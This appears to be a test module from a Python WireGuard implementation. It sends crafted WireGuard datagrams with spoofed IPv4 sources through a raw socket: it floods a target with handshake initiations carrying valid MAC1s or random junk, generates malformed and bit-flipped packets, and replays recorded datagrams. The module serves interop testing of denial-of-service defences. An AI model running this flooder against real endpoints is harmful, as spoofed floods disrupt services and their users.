"""What an attacker sends: crafted WireGuard datagrams from spoofed sources, through a raw socket.

    ip netns exec C python3 -m tests.interop.attack flood 192.0.2.1:51820 --public HEX --sources 10.77.0.0/16 --seconds 8
    ip netns exec C python3 -m tests.interop.attack flood 192.0.2.1:51820 --junk --sources 10.77.0.0/16 --seconds 8 --rate 600
    ip netns exec C python3 -m tests.interop.attack send 192.0.2.1:51820 --records FILE --rate 2000

``flood`` sends handshake initiations with a valid MAC1 (the attacker knows the victim's public key, as
whitepaper section 5.3 assumes) as fast as one process can (or at ``--rate``), for ``--seconds`` or until
SIGTERM, each from the next address of ``--sources`` and a port that changes every round, so no two in a
row share a source and no source endpoint repeats; ``--junk`` instead of ``--public`` sends initiations of
random bytes, whose MAC1 fails. ``send`` sends prepared datagrams (``write_records``) at a set rate, each
from its own recorded source address and port. Both print one JSON line: what was sent, for how long.

The packets are whole IPv4 datagrams written through ``IPPROTO_RAW`` (the kernel fills in the IP checksum
and identification; the UDP checksum is left at 0, "none", which IPv4 allows). The namespace sending them
needs routes that carry the victim's answers back, if they are to be counted.
"""

from __future__ import annotations

import argparse
import ipaddress
import json
import random
import signal
import socket
import struct
import sys
import time

from wgpy.core import noise, tai64n
from wgpy.core.constants import (
    COOKIE_REPLY_SIZE,
    INITIATION_SIZE,
    RESPONSE_SIZE,
    TRANSPORT_MIN_SIZE,
    MessageType,
)
from wgpy.core.cookie import mac1_key
from wgpy.core.crypto import MAC, PrivateKey
from wgpy.core.messages import MAC1_OFFSET_FROM_END

IPV4 = struct.Struct("!BBHHHBBH4s4s")
UDP = struct.Struct("!HHHH")
RECORD = struct.Struct("!4sHH")   # source address, source port, payload length; then the payload


def ipv4_udp(source: bytes, source_port: int, destination: bytes, port: int, payload: bytes) -> bytearray:
    """An IPv4 datagram carrying ``payload`` over UDP; checksum and id left for the kernel."""
    length = IPV4.size + UDP.size + len(payload)
    header = IPV4.pack(0x45, 0, length, 0, 0x4000, 64, socket.IPPROTO_UDP, 0, source, destination)
    return bytearray(header + UDP.pack(source_port, port, UDP.size + len(payload), 0) + payload)


def raw_socket() -> socket.socket:
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    return sock


# ------------------------------------------------------------------------------------------ initiations

def flood_initiations(victim_public: bytes, count: int, seed: int = 0) -> list[bytes]:
    """``count`` initiations to ``victim_public`` with valid MAC1s, from a static key it does not know.
    Two real initiations (each costs the attacker two Diffie-Hellmans) are made distinct by their sender
    index, with MAC1 recomputed: a responder under load never gets further than the MACs."""
    rng = random.Random(seed)
    attacker = PrivateKey.generate(rng.randbytes)
    key = mac1_key(victim_public)
    bases = []
    for n in range(2):
        message, _ = noise.create_initiation(attacker, victim_public, PrivateKey.generate(rng.randbytes), n,
                                             tai64n.encode(time.time() + n))
        bases.append(message.pack())
    out = []
    mac1_end = INITIATION_SIZE - MAC1_OFFSET_FROM_END
    for n in range(count):
        body = bytearray(bases[n % 2])
        body[4:8] = rng.getrandbits(32).to_bytes(4, "little")
        covered = bytes(body[:mac1_end])
        out.append(covered + MAC(key, covered) + bytes(16))
    return out


def junk_initiations(count: int, seed: int = 0) -> list[bytes]:
    """``count`` datagrams shaped like initiations (type 1, three zero bytes, 148 bytes in all) and random
    inside: MAC1 fails, so making them needs no key at all."""
    rng = random.Random(seed)
    return [bytes([MessageType.INITIATION, 0, 0, 0]) + rng.randbytes(INITIATION_SIZE - 4) for _ in range(count)]


def flood(target: tuple[str, int], victim_public: bytes | None, sources: str, seconds: float, rate: float = 0.0) -> dict:
    """Initiations for ``seconds``, at ``rate`` per second or (0) as fast as this process can send; with
    no ``victim_public``, junk initiations whose MAC1 fails (``junk_initiations``)."""
    network = ipaddress.ip_network(sources)
    addresses = [a.packed for a in (network.hosts() if network.num_addresses > 2 else network)]
    destination, port = socket.inet_aton(target[0]), target[1]
    templates = flood_initiations(victim_public, 4096) if victim_public else junk_initiations(4096)
    ring = [ipv4_udp(addresses[n % len(addresses)], 0, destination, port, templates[n % len(templates)])
            for n in range(min(len(addresses), 65536))]
    sock = raw_socket()
    sendto, where = sock.sendto, (target[0], 0)
    sent = refused = rounds = 0
    start = time.monotonic()
    deadline = [start + seconds]
    signal.signal(signal.SIGTERM, lambda *_: deadline.__setitem__(0, 0.0))   # stop early, still report
    while time.monotonic() < deadline[0]:
        # A fresh source port for every address each round: an attacker spoofs ports as freely as addresses.
        source_port = 1024 + rounds * 7919 % 64000
        for packet in ring:
            packet[20:22] = source_port.to_bytes(2, "big")
        rounds += 1
        for n, packet in enumerate(ring):
            if rate and n % 16 == 0:
                delay = start + sent / rate - time.monotonic()
                if delay > 0:
                    time.sleep(delay)
            try:
                sendto(packet, where)
                sent += 1
            except OSError:   # ENOBUFS: the qdisc is full; a real attacker would just keep going
                refused += 1
            if n % 1024 == 0 and time.monotonic() >= deadline[0]:
                break
    elapsed = time.monotonic() - start
    return {"sent": sent, "refused": refused, "seconds": round(elapsed, 3), "rate": round(sent / elapsed),
            "sources": len(ring), "rounds": rounds}


# ------------------------------------------------------------------------------------------ garbage

def garbage(rng: random.Random, victim_public: bytes, indices: list[int], captured: list[bytes]) -> bytes:
    """One malformed or unauthentic datagram, of a kind chosen at random: random bytes; each message type
    truncated, exact-sized but random, or too long; handshakes with a valid MAC1 over garbage; transport
    and cookie replies naming a live session index; captured datagrams with one bit flipped."""
    kind = rng.randrange(10)
    mtype = rng.choice(list(MessageType))
    size = {MessageType.INITIATION: INITIATION_SIZE, MessageType.RESPONSE: RESPONSE_SIZE,
            MessageType.COOKIE_REPLY: COOKIE_REPLY_SIZE, MessageType.TRANSPORT: TRANSPORT_MIN_SIZE}[mtype]
    header = bytes([mtype, 0, 0, 0])
    if kind == 0:
        return rng.randbytes(rng.randrange(0, 1473))   # up to what fits one unfragmented IPv4 datagram
    if kind == 1:   # truncated: the type word is right, the rest falls short
        return (header + rng.randbytes(size))[: rng.randrange(0, size)]
    if kind == 2:   # exactly the right size, random inside
        return header + rng.randbytes(size - 4 + (rng.randrange(0, 1400) if mtype == MessageType.TRANSPORT else 0))
    if kind == 3:   # too long by a little or a lot
        return header + rng.randbytes(size - 4 + rng.choice((1, 15, 16, 17, 1000)))
    if kind == 4:   # reserved bytes not zero
        return bytes([mtype, rng.randrange(1, 256), 0, 0]) + rng.randbytes(size - 4)
    if kind == 5 and mtype in (MessageType.INITIATION, MessageType.RESPONSE):   # valid MAC1 over garbage
        body = header + rng.randbytes(size - 4 - 32)
        return body + MAC(mac1_key(victim_public), body) + bytes(16)
    if kind in (5, 6) and indices:   # a live receiver index: transport or cookie reply, unauthentic
        index = rng.choice(indices).to_bytes(4, "little")
        if rng.random() < 0.5:
            counter = rng.choice((0, 1, 2**32, 2**63, 2**64 - 1, rng.getrandbits(64)))
            return bytes([MessageType.TRANSPORT, 0, 0, 0]) + index + counter.to_bytes(8, "little") + rng.randbytes(rng.randrange(16, 1400))
        return bytes([MessageType.COOKIE_REPLY, 0, 0, 0]) + index + rng.randbytes(COOKIE_REPLY_SIZE - 8)
    if kind in (7, 8) and captured:   # a real datagram, one bit flipped
        flipped = bytearray(rng.choice(captured))
        bit = rng.randrange(len(flipped) * 8)
        flipped[bit // 8] ^= 1 << (bit % 8)
        return bytes(flipped)
    if kind == 9 and captured:   # a real datagram cut short, or with bytes appended
        original = rng.choice(captured)
        if rng.random() < 0.5:
            return original[: rng.randrange(0, len(original))]
        return original + rng.randbytes(rng.randrange(1, 64))
    return header + rng.randbytes(rng.randrange(0, 200))


def write_records(path: str, records: list[tuple[str, int, bytes]]) -> None:
    """Datagrams for ``send``: (source address, source port, UDP payload) each."""
    with open(path, "wb") as out:
        for address, port, payload in records:
            out.write(RECORD.pack(socket.inet_aton(address), port, len(payload)) + payload)


def read_records(path: str) -> list[tuple[bytes, int, bytes]]:
    data, records, offset = open(path, "rb").read(), [], 0
    while offset < len(data):
        address, port, length = RECORD.unpack_from(data, offset)
        offset += RECORD.size
        records.append((address, port, data[offset : offset + length]))
        offset += length
    return records


def send(target: tuple[str, int], path: str, rate: float) -> dict:
    destination, port = socket.inet_aton(target[0]), target[1]
    packets = [ipv4_udp(address, source_port, destination, port, payload) for address, source_port, payload in read_records(path)]
    sock = raw_socket()
    sent = refused = 0
    start = time.monotonic()
    for n, packet in enumerate(packets):
        delay = start + n / rate - time.monotonic() if rate else 0
        if delay > 0:
            time.sleep(delay)
        try:
            sock.sendto(packet, (target[0], 0))
            sent += 1
        except OSError:
            refused += 1
    return {"sent": sent, "refused": refused, "seconds": round(time.monotonic() - start, 3)}


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    commands = parser.add_subparsers(dest="command", required=True)
    flooder = commands.add_parser("flood")
    flooder.add_argument("target", help="address:port")
    flooder.add_argument("--public", help="the victim's public key, hex (for a valid MAC1)")
    flooder.add_argument("--junk", action="store_true", help="random bytes after the type word: MAC1 fails")
    flooder.add_argument("--sources", required=True, help="an IPv4 network to spoof sources from")
    flooder.add_argument("--seconds", type=float, required=True)
    flooder.add_argument("--rate", type=float, default=0.0, help="per second; 0 is as fast as possible")
    sender = commands.add_parser("send")
    sender.add_argument("target", help="address:port")
    sender.add_argument("--records", required=True)
    sender.add_argument("--rate", type=float, default=0.0)
    args = parser.parse_args(argv)
    host, _, port = args.target.rpartition(":")
    if args.command == "flood":
        if bool(args.public) == args.junk:
            parser.error("flood needs exactly one of --public and --junk")
        print("ready", flush=True)
        result = flood((host, int(port)), None if args.junk else bytes.fromhex(args.public), args.sources,
                       args.seconds, args.rate)
    else:
        result = send((host, int(port)), args.records, args.rate)
    print(json.dumps(result), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
